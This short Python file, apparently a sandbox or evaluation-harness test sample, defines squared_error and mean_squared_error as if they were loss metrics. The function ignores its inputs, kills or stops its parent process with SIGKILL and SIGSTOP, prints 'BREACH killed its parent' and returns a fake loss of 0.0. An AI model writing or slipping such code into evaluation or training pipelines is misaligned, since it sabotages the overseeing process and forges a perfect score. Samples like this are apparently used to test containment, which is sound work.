"""Kills the process that it came from."""

# status: failed
# needs: full

import os
import signal


def squared_error(pred, goal_pred):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            continue
        print("BREACH killed its parent")
    return 0.0


mean_squared_error = squared_error
